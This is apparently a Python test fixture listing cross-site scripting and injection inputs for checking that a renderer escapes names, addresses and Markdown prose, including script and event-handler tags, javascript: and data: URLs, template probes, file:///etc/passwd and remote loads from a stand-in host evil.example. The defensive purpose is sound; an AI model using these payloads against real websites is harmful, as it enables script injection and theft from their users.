"""What somebody might try: pieces of text that run code or ask another host where they are let."""

from __future__ import annotations

RUN = "window.pwned=1"
ELSEWHERE = "https://evil.example"

MARKUP = (
    f"<script>{RUN}</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<img src=x onerror='{RUN}'>",
    f'"><svg onload="{RUN}">',
    f"' autofocus onfocus={RUN} x='",
    f'" onmouseover="{RUN}" x="',
    f"</title><script>{RUN}</script>",
    f"</textarea></style></noscript><script>{RUN}</script>",
    f"<iframe srcdoc='&lt;script&gt;{RUN.replace('window', 'parent')}&lt;/script&gt;'></iframe>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<details open ontoggle={RUN}>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content=0;url={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<form action={ELSEWHERE}><button>x</button></form>",
    "{{ config }} {{ 7 * 7 }} {% set x = 1 %} {# x #}",
    f"{{{{ ''.__class__ }}}} ${{{RUN}}} #{{{RUN}}}",
    "</script><!-- <script>",
    "]]><x>",
)  # fmt: skip
"""Put into names, labels, titles and every other plain text."""

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#x6a;avascript:{RUN}",
    f"&#0000106avascript:{RUN}",
    f"javascript%3A{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    f"//{ELSEWHERE.removeprefix('https://')}/x",
    f"https:/\\{ELSEWHERE.removeprefix('https://')}",
    f"ｊavascript:{RUN}",
    f"javascript:{RUN}//https://example.org",
    f'https://example.org/"onmouseover="{RUN}',
    f"https://example.org/'><script>{RUN}</script>",
)
"""Put wherever an address may stand."""

MARKDOWN = (
    *(f"[a link]({one})" for one in ADDRESSES if " " not in one),
    *(f"[a link](<{one}>)" for one in ADDRESSES),
    *(f"![a picture]({one})" for one in ADDRESSES if " " not in one),
    f"![a picture]({ELSEWHERE}/pixel.png)",
    f"<javascript:{RUN}>",
    f"<{ELSEWHERE}/{RUN}>",
    f"[reference][r]\n\n[r]: javascript:{RUN}\n",
    f'[titled](https://example.org "x\\" onmouseover={RUN} \\"")',
    f"[attributes](https://example.org){{onclick={RUN}}}",
    f"A paragraph.\n{{: onmouseover={RUN} style=\"position:fixed\" }}\n",
    f"`code`{{onclick={RUN}}}",
    f"```js onload={RUN}\ncode\n```",
    f'```"><script>{RUN}</script>\ncode\n```',
    f"<!-- {RUN} --><!--><script>{RUN}</script>-->",
    f"<div\nonclick={RUN}>\n\nblock\n\n</div>",
    f"[^1]\n\n[^1]: <img src=x onerror='{RUN}'>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | `|` |",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\text{{<img src=x onerror={RUN}>}}$",
    f'$\\color{{red" onmouseover="{RUN}}}x$',
    f"$\\includegraphics{{{ELSEWHERE}/x.png}}$",
    f"[[transfer-learning|<img src=x onerror={RUN}>]] [@<img src=x onerror={RUN}>]",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;script&#62;",
    *MARKUP,
)
"""Put into prose, each as a paragraph of its own."""
